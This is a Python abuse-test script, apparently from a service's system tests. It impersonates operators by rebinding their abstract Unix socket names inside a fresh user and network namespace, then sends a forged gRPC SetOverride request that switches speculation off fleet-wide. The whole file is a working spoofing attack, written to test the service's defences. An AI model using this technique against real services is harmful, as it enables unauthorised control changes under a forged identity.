"""A process that tries to pass for every operator who connects, from a network of its own.

    python -m tests.system.abuse.impostor SOCKET UID SECONDS

Abstract socket names are visible to every user and belong to a network namespace: in another one
the name of an operator's connection is free.  This process gives up its user id, enters a namespace
of its own, and for every such name that appears binds it, connects to SOCKET and sets an override
that switches speculation off everywhere.  It prints "ready", and at last how often it has tried.
"""

import ctypes
import os
import re
import socket
import sys
import time
from pathlib import Path
from typing import Final

from speculation.v1 import policy_pb2
from tests.system.abuse.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    SETTINGS,
    frame,
    headers_of,
    message_head,
)

OVERRIDE_ID: Final = "forged"
NO_NAMESPACE: Final = 77
_CLONE_NEWUSER, _CLONE_NEWNET = 0x10000000, 0x40000000
_NAMES = re.compile(rb"@(speculation-operator-[0-9a-f]+)")
_ANSWER_SECONDS = 0.5


def main(target: str, uid: int, seconds: float) -> int:
    """Exit code: NO_NAMESPACE where none may be made."""
    group = Path(target).stat().st_gid
    os.setgroups([])
    os.setgid(group)
    os.setuid(uid)
    # Opened before: it still shows the names of the network that is left.
    names = os.open("/proc/self/net/unix", os.O_RDONLY)
    if ctypes.CDLL(None).unshare(_CLONE_NEWUSER | _CLONE_NEWNET) != 0:
        return NO_NAMESPACE
    print("ready", flush=True)
    tried: set[bytes] = set()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for name in set(_NAMES.findall(_all_of(names))) - tried:
            tried.add(name)
            _pass_for(name, target)
    print(len(tried), flush=True)
    return 0


def _all_of(file: int) -> bytes:
    os.lseek(file, 0, os.SEEK_SET)
    return b"".join(iter(lambda: os.read(file, 65_536), b""))


def _pass_for(name: bytes, target: str) -> None:
    override = policy_pb2.Override(
        override_id=OVERRIDE_ID,
        scope=policy_pb2.Scope(fleet=True),
        rule=policy_pb2.OverrideRule(off=True),
        author="another user",
        reason="forged",
    )
    body = policy_pb2.SetOverrideRequest(override=override).SerializeToString()
    path = "/speculation.v1.PolicyService/SetOverride"
    with socket.socket(socket.AF_UNIX) as peer:
        peer.bind(b"\0" + name)
        peer.connect(target)
        peer.sendall(
            PREFACE
            + frame(SETTINGS, 0, 0)
            + frame(HEADERS, END_HEADERS, 1, headers_of(path))
            + frame(DATA, END_STREAM, 1, message_head(len(body)) + body)
        )
        peer.settimeout(_ANSWER_SECONDS)
        try:
            while peer.recv(65_536):
                pass
        except TimeoutError:
            pass


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
